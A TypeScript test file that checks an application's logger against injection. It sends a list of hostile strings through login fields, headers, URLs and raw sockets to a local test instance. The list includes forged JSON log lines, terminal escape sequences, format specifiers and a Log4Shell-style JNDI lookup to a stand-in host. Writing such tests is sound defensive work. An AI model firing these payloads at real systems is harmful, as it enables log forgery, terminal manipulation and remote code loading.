import { connect } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type App, startApp } from '../../src/app/app.js';
import { createLogger } from '../../src/platform/logger.js';
import { Client } from '../support/client.js';
import { testConfig } from '../support/config.js';
import { embeddedTemplate } from '../support/database-template.js';
import { RawSocket } from '../support/raw-socket.js';

/** What would be a line of its own, a terminal's command, or the end of a JSON text. */
const FORGED = '{"level":"fatal","msg":"the vault was opened"}';
const texts: readonly string[] = [
  `\n${FORGED}\n`,
  `\r\n${FORGED}`,
  `"}\n${FORGED}`,
  `\\n${FORGED}`,
  `\u2028${FORGED}\u2029`,
  `\u0085${FORGED}`,
  `\u001b[2J\u001b]0;owned\u0007`,
  `\u009b31mred`,
  '%s %o %j %d',
  '${jndi:ldap://evil.example/a}',
];

const lines: string[] = [];
let app: App;
beforeAll(async () => {
  const logger = createLogger({ level: 'debug' }, { write: (line) => void lines.push(line) });
  app = await startApp(testConfig(), { logger, template: await embeddedTemplate() });
  // So that sign-in fails inside, and what the database says of it is logged, values included.
  const em = app.services.em.fork();
  await em.execute('alter table audiences rename to audiences_gone');
  await em.execute('alter table failure_counters rename to failure_counters_gone');
  await sendEverything();
});
afterAll(() => app.close());

test('there are lines about the requests', () => {
  expect(lines.join('')).toContain('an operation failed');
  expect(lines.filter((line) => line.includes('audiences\\"')).length).toBeGreaterThan(3);
  expect(lines.length).toBeGreaterThan(20);
});

test('each write is one line, and each line is one JSON object that nobody else has begun', () => {
  for (const line of lines) {
    expect(line.endsWith('\n')).toBe(true);
    expect(line.slice(0, -1)).not.toContain('\n');
    expect(JSON.parse(line)).toMatchObject({ pid: process.pid });
  }
  expect(lines.filter((line) => line.startsWith('{"level":"fatal"'))).toEqual([]);
});

test('no line holds a character that a terminal or a viewer acts on', () => {
  for (const line of lines) expect(line.slice(0, -1)).toMatch(/^[^\p{Cc}\u2028\u2029]*$/u);
});

test('no format letter in what a client sent is filled in', () => {
  expect(lines.filter((line) => line.includes('[object Object]') || /NaN %/.test(line))).toEqual([]);
});

async function sendEverything(): Promise<void> {
  const login = 'mutation ($input: LoginInput!) { login(input: $input) { __typename } }';
  for (const text of texts) {
    const client = new Client(app.url);
    await client.send(login, { input: { email: text, password: text } });
    await client.send(login, { input: { email: 'a@example.com', password: 'b', audience: text } });
    await client.send(`{ ${JSON.stringify(text)} }`);
    await client.send('query ($a: Int) { __typename }', { a: text });
    await client.fetch(`/${encodeURIComponent(text)}?q=${encodeURIComponent(text)}`);
    const headers = {
      'x-request-id': encodeURI(text),
      'user-agent': encodeURI(text),
      authorization: `Bearer ${encodeURI(text)}`,
    };
    await client.send('{ viewer { id } }', {}, headers);
    await client.fetch('/auth/introspect', {
      method: 'POST',
      body: new URLSearchParams({ token: text, client_secret: text }),
    });
    await sendBytes(`GET /${text} HTTP/1.1\r\nHost: x\r\nUser-Agent: ${text}\r\nConnection: close\r\n\r\n`);
    const raw = await RawSocket.open(app.url);
    await raw.operate(login, { variables: { input: { email: text, password: text } } });
    raw.send(text);
    await raw.closed;
  }
}

/** Sends what no client library would. */
async function sendBytes(text: string): Promise<void> {
  const { hostname, port } = new URL(app.url);
  await new Promise<void>((resolve) => {
    const socket = connect(Number(port), hostname, () => socket.write(text));
    socket.on('data', () => {});
    socket.on('error', () => resolve());
    socket.on('close', () => resolve());
  });
}
